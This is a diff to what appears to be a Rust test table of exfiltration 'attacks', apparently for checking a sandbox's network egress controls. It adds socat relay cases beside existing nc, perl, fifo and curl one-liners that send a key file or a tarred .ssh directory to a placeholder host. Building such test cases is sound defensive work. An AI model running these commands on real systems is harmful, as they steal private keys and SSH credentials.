@@ -115,6 +115,8 @@ pub const HOPS: &[Attack] = &[
     attack("arguments", Far::Tcp, "cat @KEY | xargs -d '\\n' printf %s | nc.openbsd -N @HOST @PORT").coded(410),
     attack("a fifo", Far::Tcp, "mkfifo @DIR/f; cat @KEY >@DIR/f & nc.openbsd -N @HOST @PORT <@DIR/f"),
     attack("a command's output, its pipe still open", Far::Tcp, "exec perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"@HOST:@PORT\"); open F, \"cat @KEY |\"; @l = <F>; syswrite $s, join(\"\", @l); sleep 1'"),
+    attack("a relay on this host", Far::Tcp, "socat TCP-LISTEN:9,bind=127.0.0.1 TCP:@HOST:@PORT & sleep 0.5; cat @KEY | nc.openbsd -N 127.0.0.1 9; wait"),
+    attack("a relay on this host, over UDP", Far::Tcp, "socat -u UDP-RECV:9,bind=127.0.0.1 TCP:@HOST:@PORT & sleep 0.5; cat @KEY | nc.openbsd -u -q1 127.0.0.1 9; sleep 0.5; kill $!"),
     attack("a fifo between strangers", Far::Tcp, "mkfifo @DIR/f; setsid -f sh -c 'cat @KEY >@DIR/f'; perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"@HOST:@PORT\"); open F, \"<@DIR/f\"; print $s <F>'"),
     attack("a file", Far::Tcp, "cp @KEY @DIR/a; nc.openbsd -N @HOST @PORT <@DIR/a"),
     attack("an archive in /tmp", Far::Tcp, "tar czf @DIR/a.tgz -C @DIR .ssh; curl -s -m 20 -T @DIR/a.tgz http://@HOST:@PORT/").coded(206),
